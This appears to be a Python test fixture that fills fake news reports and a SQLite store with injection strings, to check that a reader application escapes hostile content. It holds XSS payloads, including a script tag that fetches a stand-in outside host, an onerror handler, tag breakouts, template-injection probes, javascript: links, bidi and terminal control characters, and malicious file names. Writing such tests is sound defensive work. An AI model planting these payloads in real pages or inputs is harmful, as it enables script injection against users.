"""Reports that were written to break whoever shows them, and a store in which every name and text is of that kind."""

import json
from pathlib import Path

import msgspec

from memcon.model.reading import Reading
from memcon.model.record import Memcon
from memcon.model.story import Story
from memcon.run import read
from memcon.store.sqlite import SqliteStore

ELSEWHERE = "http://elsewhere.invalid"
SCRIPT = "<script>document.documentElement.dataset.ran = 1; fetch('http://elsewhere.invalid/taken')</script>"
HANDLER = "<img src='http://elsewhere.invalid/x.png' onerror='document.documentElement.dataset.ran = 2'>"
# Closes whatever a template might have opened: an attribute in either quotation mark, a title, a script, a comment.
BREAKS = "\"'></a></title></textarea></script></style>-->" + SCRIPT + HANDLER
TEMPLATE = "{{ 7 * 191 }}{% raw %}${7 * 191}"
LINK = "javascript:document.documentElement.dataset.ran=3"
TURNED = "\u202egnissim si\u202c \u2066isolated\u2069 \u200fmark"
LONG = "Rindfleisch" * 9091
ENTITY = "&lt;script&gt;document.documentElement.dataset.ran=4&lt;/script&gt; &#x3c;b&#x3e; &amp;amp;"

_MET = "OSLO, May 3 — Liv Åberg met Adaeze Okoro in Oslo on May 2."
TEXTS = {
    "script": f"OSLO, May 3 — {SCRIPT} Prime Minister Liv Åberg {HANDLER} met President Adaeze Okoro of Kenya in Oslo "
    f"on May 2. The talks lasted 40 minutes {BREAKS}. “{SCRIPT} We agree,” Okoro told reporters.",
    "entities": f"{_MET} {ENTITY} The meeting lasted 50 minutes. {TEMPLATE}",
    "turned": f"{_MET} She came {TURNED} by train. “It {TURNED} ends,” Okoro told reporters.",
    "long": f"{_MET} She said {LONG} was the word.",
    "link": f"{_MET} See {LINK} or [here]({LINK}) or <a href='{LINK}'>that</a>.",
    "control": f"{_MET}\x01 She came\x1b[31m by train.\x07 She\x08 left \ud7ff\uffff\U000e0001 early.",
}


def write_hostile(folder: Path) -> None:
    """The reports as lines of JSON, as a page and as text; what is told of them is hostile too."""
    lines = [
        {"id": BREAKS, "text": text, "title": f"{name} {BREAKS}{TURNED}", "outlet": f"{BREAKS} Times {k}",
         "published": "2031-05-03", "url": LINK if k % 2 else f"https://news.example/{SCRIPT}?a=\"{HANDLER}"}
        for k, (name, text) in enumerate(TEXTS.items())
    ]  # fmt: skip
    (folder / "hostile.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    body = "".join(f"<p>{text}</p>" for name, text in TEXTS.items() if name not in ("control", "long"))
    (folder / "page <img src=x onerror=1>.html").write_text(
        f"<html><head><title>{BREAKS}</title></head><body><article><h1>{BREAKS}</h1>{body * 3}</article></body></html>",
        encoding="utf-8",
    )
    (folder / "text'\"><script>1<!--.txt").write_text(TEXTS["script"].replace("40", "45"), encoding="utf-8")


def read_hostile(folder: Path) -> Path:
    """A store that has read them."""
    (folder / "in").mkdir()
    write_hostile(folder / "in")
    store = folder / "hostile.db"
    read([str(folder / "in")], str(store))
    return store


# ---------------------------------------------------------------- every string of a memcon

_TOLD = {
    "headline", "name", "office", "text", "why", "exact", "value", "words", "speaker_name", "vouched_by", "topic",
    "relayed_by", "condition", "purpose", "title", "path", "url", "given_id", "by", "outlet", "message", "also",
    "bylines", "subject",
}  # fmt: skip
"""Fields that hold words of reports or what was made from them; the others are ids, dates, codes and closed lists."""
_DATED = {"when", "published", "due"}


def spoiled(value: object, key: str = "", inside: str = "") -> object:
    """A noun as plain data with something hostile at the end of all that it tells; texts that spans index stay."""
    if isinstance(value, dict):
        return {k: spoiled(v, k, key) for k, v in value.items()}
    if isinstance(value, list):
        return [spoiled(v, key, inside) for v in value]
    if isinstance(value, str) and key in _TOLD and not (key == "value" and inside in _DATED) and key != "stored":
        return f"{value} {BREAKS}{TURNED}{TEMPLATE}"
    return value


def spoil(source: SqliteStore, target: SqliteStore) -> None:
    """The reports and stories of a store, each with something hostile in every field, put into another."""
    target.add([_spoiled_reading(r) for r in source.readings()])
    stories, memcons = zip(*source.stories(), strict=True)
    target.keep(
        [msgspec.convert(_with_why(s), Story) for s in stories],
        [msgspec.convert(spoiled(msgspec.to_builtins(m)), Memcon) for m in memcons],
    )


def _spoiled_reading(reading: Reading) -> Reading:
    plain = spoiled(msgspec.to_builtins(msgspec.structs.replace(reading, syntax=None)))
    assert isinstance(plain, dict)
    plain["report"]["text"] = reading.text
    return msgspec.convert(plain, Reading)


def _with_why(story: Story) -> object:
    plain = msgspec.to_builtins(story)
    plain["origins"] = spoiled(plain["origins"])
    plain["why"] = [(a, b, score, f"{why} {BREAKS}") for a, b, score, why in story.why]
    return plain
